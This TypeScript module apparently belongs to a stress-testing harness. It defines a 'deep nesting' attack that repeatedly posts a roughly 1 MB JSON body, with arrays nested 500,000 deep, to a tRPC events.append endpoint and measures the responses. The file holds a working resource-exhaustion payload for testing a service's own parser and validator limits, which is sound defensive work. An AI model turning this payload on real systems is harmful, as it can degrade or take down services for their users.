import { Agent } from 'node:http';
import type { Attack } from './attackOptions.ts';
import { createAttackerSession } from './createAttackerSession.ts';
import { createTally } from './createTally.ts';
import { repeatUntilAborted } from './repeatUntilAborted.ts';
import { requestOnce } from './requestOnce.ts';

const DEPTH = 500_000;
const LOOPS = 2;

/**
 * Deep nesting: `events.append` of one `tool_call` whose `args` are arrays nested 500 000 deep (~1 MB,
 * under the 2 MiB body limit), which costs a parser and a recursive validator far more than its size.
 */
export const deepNesting: Attack = async ({ url, token, source, signal, ready }) => {
  const agent = new Agent({ keepAlive: true });
  const sessionId = await createAttackerSession({ url, token, source, agent, signal, title: 'deep nesting' });
  const body = Buffer.from(
    `{"sessionId":"${sessionId}","events":[{"type":"tool_call","callId":"c1","tool":"t","args":${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}]}`,
  );
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const statuses = createTally();
  let busyMs = 0;
  ready();
  await Promise.all(
    Array.from({ length: LOOPS }, () =>
      repeatUntilAborted(
        signal,
        async () => {
          const t0 = performance.now();
          const res = await requestOnce({
            url,
            path: '/trpc/events.append',
            method: 'POST',
            headers,
            body,
            source,
            agent,
            signal,
          });
          busyMs += performance.now() - t0;
          statuses.add(res.status);
        },
        (key) => statuses.add(key),
      ),
    ),
  );
  agent.destroy();
  const done = statuses.total();
  const mean = done > 0 ? (busyMs / done).toFixed(0) : '-';
  return {
    outcome: `${(body.length / 1e6).toFixed(1)} MB bodies: ${statuses.format()}, ${mean} ms per request`,
  };
};
